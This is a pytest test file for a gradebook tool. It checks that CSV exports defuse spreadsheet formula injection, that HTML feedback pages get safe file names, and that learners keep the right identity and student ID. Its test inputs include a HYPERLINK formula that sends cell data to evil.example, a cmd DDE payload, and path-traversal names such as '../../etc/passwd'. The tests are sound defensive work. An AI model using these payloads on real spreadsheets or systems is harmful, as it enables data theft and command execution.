"""The gradebook's own outputs, taken safely by a spreadsheet, an LMS and a browser (issue 26, item 6).

No notebook runs here: the rows are made by hand, as ``rows_of`` makes them.
"""

from __future__ import annotations

import csv
import html
from pathlib import Path

import pytest

from grader.instructor.grading import gradebook, roster, shards
from grader.instructor.grading.pipeline import find

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
NASTY = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
    "'=1+2",  # a learner whose name already begins with a quote reads back as itself
]


def row(learner: str, unit: str = "00", points=3, notebook: str | None = None, **more) -> dict:
    r = {
        "learner": learner,
        "student id": "",
        "notebook": notebook or f"class/{learner}/00_start_here.ipynb",
        "unit": unit,
        "submitted": "",
        "run": "ok",
        "problems": "",
        "findings": "",
        "marked passed": "yes",
        "points": points,
        "max": 7,
        "percent": 42.9,
        "done": 3,
        "correct": 2,
        "questions": 3,
        "not in copy": "",
        "hints": "",
        "attempts": "",
        "isolation": "none",
        "seconds": 1.5,
    }
    r.update(more)
    return r


def raw(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def assert_no_cell_runs(table: list[list[str]]) -> None:
    for line in table:
        for cell in line:
            assert not cell.startswith(DANGEROUS), cell


# --- 1. CSV injection ---------------------------------------------------------------------------


def test_learner_text_in_the_long_and_wide_csv_never_runs_in_a_spreadsheet(tmp_path):
    rows = [row(name, findings=f"-{name}", problems="@x", **{"00.warmup-add": "=bad"}) for name in NASTY]
    gradebook.write_csv(rows, tmp_path / "long.csv")
    gradebook.write_wide(rows, tmp_path / "wide.csv")
    for name in ("long.csv", "wide.csv"):
        table = raw(tmp_path / name)
        assert_no_cell_runs(table)
        assert "'=1+2" in {line[table[0].index("learner")] for line in table[1:]}
        text = (tmp_path / name).read_bytes()
        assert text.startswith(b'"') and b"\n=" not in text and b",=" not in text  # every field quoted


def test_the_graders_numbers_stay_numbers(tmp_path):
    gradebook.write_csv([row("alice", points=0), row("-1", unit="01", points=5)], tmp_path / "long.csv")
    table = raw(tmp_path / "long.csv")
    head = table[0]
    alice = next(line for line in table if line[head.index("learner")] == "alice")
    assert [alice[head.index(k)] for k in ("points", "max", "percent", "seconds")] == ["0", "7", "42.9", "1.5"]
    minus = next(line for line in table if line[head.index("unit")] == "01")
    assert minus[head.index("learner")] == "-1"  # a plain number: a spreadsheet reads -1, runs nothing


def test_a_neutralised_learner_reads_back_and_merges_into_their_own_rows(tmp_path):
    old = [row(name, points=1) for name in NASTY] + [row("bob", points=1)]
    gradebook.write_csv(old, tmp_path / "grades.csv")
    back = gradebook.read_csv(tmp_path / "grades.csv")
    assert sorted(r["learner"] for r in back) == sorted(NASTY + ["bob"])
    assert {r["learner"]: r["findings"] for r in back}["=1+2"] == ""
    regraded = [row("=1+2", points=7)]
    merged = gradebook.merge(back, regraded)
    mine = [r for r in merged if r["learner"] == "=1+2"]
    assert len(mine) == 1 and mine[0]["points"] == 7
    assert len(merged) == len(old)
    gradebook.write_csv(merged, tmp_path / "grades.csv")  # written again: still safe, still the same learners
    assert_no_cell_runs(raw(tmp_path / "grades.csv"))
    assert sorted(r["learner"] for r in gradebook.read_csv(tmp_path / "grades.csv")) == sorted(NASTY + ["bob"])


def test_shards_of_neutralised_learners_join(tmp_path):
    n = 2
    parts = []
    for i in (1, 2):
        mine = [name for name in NASTY if shards.shard_of(name, n) == i]
        part = tmp_path / f"part-{i}.csv"
        gradebook.write_csv([row(name) for name in mine], part)
        shards.write_sidecar(part, (i, n), NASTY, mine, [])
        parts.append(part)
    rows, _ = shards.read_partials(parts)
    assert sorted(r["learner"] for r in rows) == sorted(NASTY)


# --- 2. feedback pages, one per learner ---------------------------------------------------------

TRICKY = [
    "Zoé",
    "Zoë",
    "Zoe\u0301",  # Zoé written with a combining accent: another name, another page
    "李明",
    "王芳",
    "",
    ".",
    "..",
    "/",
    "a/b",
    "a_b",
    "a b",
    "../../etc/passwd",
    "CON",
    "con",
    "NUL",
    "x" * 300,
    "x" * 301,
    "tab\there",
    "bell\x07\x1b[31m",
    "\u200fRTL\u202e",
    "RTL",
    ".hidden",
    "=1+2",
    "émilie",
    "ÉMILIE",
]


def test_every_learner_gets_a_page_of_their_own(tmp_path):
    folder = tmp_path / "feedback"
    pages = gradebook.write_html([row(name) for name in TRICKY], folder)
    assert len(pages) == len(TRICKY) == len({p.name.casefold() for p in pages})
    assert sorted(p.name for p in folder.iterdir()) == sorted(p.name for p in pages)  # nothing outside, none lost
    for page in pages:
        assert page.parent == folder and not page.name.startswith(".")
        assert len(page.name.encode("utf-8")) <= 255
        assert all(ch.isprintable() and ch not in "/\\" for ch in page.name)
    for name in TRICKY:  # each page is its own learner's
        page = folder / gradebook.page_names(TRICKY)[name]
        assert f"<h1>Feedback for {html.escape(name)}</h1>" in page.read_text(encoding="utf-8")


def test_page_names_are_readable_and_stable():
    assert gradebook.page_name("Zoé").startswith("Zoé-") and gradebook.page_name("李明").startswith("李明-")
    assert gradebook.page_name("Zoé") != gradebook.page_name("Zoë")
    assert gradebook.page_name("李明") != gradebook.page_name("王芳")
    assert gradebook.page_name("alice") == gradebook.page_name("alice")  # a regrade writes the same page
    assert gradebook.page_name("").startswith("learner-") and gradebook.page_name("..").startswith("learner-")
    stem, _, tail = gradebook.page_name("alice").rpartition("-")
    assert stem == "alice" and len(tail) == len("12345678.html")


# --- 3. a learner's identity does not depend on the path given ----------------------------------


@pytest.fixture
def klass(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    for path in ("class/alice/00_start_here.ipynb", "class/mallory/alice_00.ipynb", "class/frank_01.ipynb"):
        Path(path).parent.mkdir(parents=True, exist_ok=True)
        Path(path).write_text("{}")
    return tmp_path


@pytest.mark.parametrize(
    "notebook, learner",
    [
        ("class/mallory/alice_00.ipynb", "mallory/alice"),
        ("class/alice/00_start_here.ipynb", "alice"),
        ("class/frank_01.ipynb", "class/frank"),
    ],
)
def test_every_way_of_naming_a_notebook_names_the_same_learner(klass, monkeypatch, notebook, learner):
    nb = Path(notebook)
    ways = ["class", str(nb.parent), notebook, str(klass / "class"), str(klass / nb)]
    for given in ways:
        found = [s.learner for s in find([given]) if Path(s.path).resolve() == (klass / nb).resolve()]
        assert found == [learner], given
    monkeypatch.chdir(klass / nb.parent)
    assert [s.learner for s in find(["."]) if Path(s.path).name == nb.name] == [learner]


def test_a_regrade_of_mallorys_folder_keeps_alices_row(klass):
    full = [row(s.learner, notebook=str(s.path), points=7) for s in find(["class"]) if s.learner == "alice"]
    assert len(full) == 1
    gradebook.write_csv(full, klass / "grades.csv")
    for given in ("class/mallory", "class/mallory/alice_00.ipynb"):
        regrade = [row(s.learner, notebook=str(s.path), points=0) for s in find([given])]
        merged = gradebook.merge(gradebook.read_csv(klass / "grades.csv"), regrade)
        alice = [r for r in merged if r["learner"] == "alice"]
        assert len(alice) == 1 and alice[0]["points"] == "7" and alice[0]["notebook"].endswith("00_start_here.ipynb")


def test_a_file_named_for_someone_else_never_takes_their_student_id():
    ids = {"alice": "S-1", "mallory": "S-2", "frank": "S-3"}
    assert roster.lookup(ids, "mallory/alice", "class/mallory/alice_00.ipynb") is None
    # a flat folder's files are named by the folder too; its row is the learner's exact name (no file-name fallback)
    assert roster.lookup(ids, "class/frank", "class/frank_01.ipynb") is None
    assert roster.lookup({**ids, "class/frank": "S-5"}, "class/frank", "class/frank_01.ipynb") == "S-5"
    assert "never gives a learner an ID" in roster.not_in_roster(ids, "mallory/alice")
    assert roster.lookup(ids, "alice", "class/alice/00_start_here.ipynb") == "S-1"
